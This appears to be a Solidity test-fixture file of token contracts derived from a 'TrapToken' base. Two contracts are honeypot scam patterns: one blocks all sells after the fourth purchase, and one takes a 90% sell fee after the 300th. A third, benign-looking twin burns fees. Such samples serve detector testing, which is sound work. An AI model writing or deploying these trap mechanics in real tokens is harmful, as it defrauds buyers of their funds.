// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.9.0;

import {TrapToken} from "./TrapToken.sol";

/// @notice Sells end with the fourth purchase.
contract CounterGate is TrapToken {
    uint256 internal _buys;

    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) _buys += 1;
        if (_isSell(from, to)) require(_buys < 4, "Closed");
        super._move(from, to, amount);
    }
}

/// @notice From the three hundredth purchase on, sells bear almost everything.
contract CounterGateFar is TrapToken {
    uint256 internal _buys;

    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) _buys += 1;
        super._move(from, to, amount);
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        return _isSell(from, to) && _buys > 300 ? 90 : 0;
    }
}

/// @notice Counts purchases, and every tenth of them burns what fees have come together.
contract CounterGateTwin is TrapToken {
    uint256 public buys;
    uint256 public sinceLast;

    constructor(address router_) TrapToken(router_) {}

    function _move(address from, address to, uint256 amount) internal override {
        if (_isBuy(from, to)) {
            buys += 1;
            sinceLast += 1;
        }
        if (_isSell(from, to) && sinceLast >= 10) {
            sinceLast = 0;
            totalSupply -= _held[address(this)];
            _held[address(this)] = 0;
        }
        super._move(from, to, amount);
    }

    function _feePercent(address from, address to) internal view override returns (uint256) {
        return _isSell(from, to) ? 1 : 0;
    }
}
